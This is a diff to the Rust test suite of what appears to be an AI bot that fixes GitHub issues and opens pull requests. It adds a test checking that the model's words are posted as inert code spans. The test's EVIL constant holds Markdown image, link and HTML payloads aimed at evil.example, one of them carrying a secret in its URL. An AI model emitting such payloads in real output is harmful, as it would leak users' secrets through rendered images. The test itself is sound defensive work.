@@ -183,6 +183,30 @@ fn plan() -> Step {
     )
 }
 
+/// `markdown` without its code spans (a run of backticks closed by the next run as long):
+/// the part GitHub renders as Markdown.
+fn prose(markdown: &str) -> String {
+    let mut out = String::new();
+    let mut rest = markdown;
+    while let Some(at) = rest.find('`') {
+        out.push_str(&rest[..at]);
+        let after = rest[at..].trim_start_matches('`');
+        let run = rest.len() - at - after.len();
+        let closing = after.char_indices().map(|(i, _)| i).find(|&i| {
+            let tail = &after[i..];
+            tail.len() - tail.trim_start_matches('`').len() == run && !after[..i].ends_with('`')
+        });
+        match closing {
+            Some(i) => rest = &after[i + run..],
+            None => {
+                out.push_str(&rest[at..at + run]);
+                rest = after;
+            }
+        }
+    }
+    out + rest
+}
+
 fn stderr(out: &Output) -> String {
     String::from_utf8_lossy(&out.stderr).into_owned()
 }
@@ -216,13 +240,19 @@ async fn a_labelled_issue_becomes_a_pushed_branch_and_a_draft_pull_request() {
         (Some(true), Some("wright/issue-7"), Some("main"))
     );
     let body = pull["body"].as_str().unwrap();
-    assert!(body.contains("Closes #7") && body.contains("`fixed`") && body.contains("- [x] Read parse_date"), "{body}");
+    assert!(
+        body.contains("Closes #7") && body.contains("`fixed`") && body.contains("- [x] `Read parse_date`"),
+        "{body}"
+    );
     assert!(pull["title"].as_str().unwrap().contains("parse_date rejects a trailing Z"), "{pull}");
 
     let edits = repo.gh.calls_to("PATCH /repos/o/r/issues/comments/");
     assert!(edits.len() >= 2 && edits.iter().all(|c| c.path == "/repos/o/r/issues/comments/1001"), "{lines:#?}");
     let working = edits[0].json()["body"].as_str().unwrap().to_string();
-    assert!(working.contains("is working on this") && working.contains("- [ ] Accept the Z suffix ← now"), "{working}");
+    assert!(
+        working.contains("is working on this") && working.contains("- [ ] `Accept the Z suffix` ← now"),
+        "{working}"
+    );
     let last = edits.last().unwrap().json()["body"].as_str().unwrap().to_string();
     assert!(last.starts_with(MARKER), "{last}");
     for part in [
@@ -415,4 +445,49 @@ async fn a_dispatch_fetches_the_issue_and_takes_its_task_input() {
     assert!(later.requests().is_empty(), "the model never saw the edited issue");
     let last = repo.gh.calls_to("PATCH /repos/o/r/issues/comments/").last().unwrap().json()["body"].to_string();
     assert!(last.contains("after the dispatch"), "{last}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_models_words_are_posted_as_text_that_renders_nothing() {
+    // An image GitHub's proxy would fetch (carrying a secret), a link, a bare URL GitHub
+    // would autolink, and HTML.
+    const EVIL: &str =
+        "![x](https://evil.example/?d=secret) [click](https://evil.example) https://evil.example/leak <img src=x>";
+    let repo = Repo::new().await;
+    let plan = turn(
+        "",
+        &[(
+            "update_plan",
+            json!({"steps": [{"step": format!("Read parse_date {EVIL}"), "status": "completed"}, {"step": "Accept the Z suffix", "status": "in_progress"}]}),
+        )],
+    );
+    let finish = turn(
+        "",
+        &[("finish", json!({"summary": format!("parse_date accepts a trailing Z.\n{EVIL}"), "outcome": "fixed"}))],
+    );
+    let subject = turn("fix: accept Z, see [click](https://evil.example) https://evil.example/leak", &[]);
+    let model = ModelServer::start_with_commits(vec![plan, fix(), finish], vec![subject]).await;
+    let out = repo.bot(&model, "issues", &labeled(ISSUE), &[]).await;
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+
+    let bodies: Vec<String> =
+        repo.gh.calls().iter().filter_map(|c| c.json()["body"].as_str().map(str::to_string)).collect();
+    let pull = repo.gh.calls_to("POST /repos/o/r/pulls")[0].json()["body"].as_str().unwrap().to_string();
+    let last = bodies.last().unwrap().clone();
+    assert!(bodies.len() >= 3 && bodies.contains(&pull), "{bodies:#?}");
+    // wright's own link to the Actions run is the one link allowed.
+    let run_link = format!("[Actions run]({}/actions/runs/555)", repo.remote.url.strip_suffix(".git").unwrap());
+    for body in &bodies {
+        let shown = prose(body).replace(&run_link, "");
+        for renders in ["![", "](http", "https://evil.example", "evil.example", "<img"] {
+            assert!(!shown.contains(renders), "`{renders}` renders in:\n{body}");
+        }
+    }
+    // Still readable: the words are there, as text.
+    for text in [&pull, &last] {
+        assert!(text.contains(&format!("`Read parse_date {EVIL}`")), "{text}");
+    }
+    assert!(pull.contains("> `parse_date accepts a trailing Z.`") && pull.contains(&format!("> `{EVIL}`")), "{pull}");
+    assert!(last.contains("see [click](https://evil.example)`"), "{last}");
+    assert_eq!(finished(&events(&out.stdout))["verdict"], "fixed");
 }
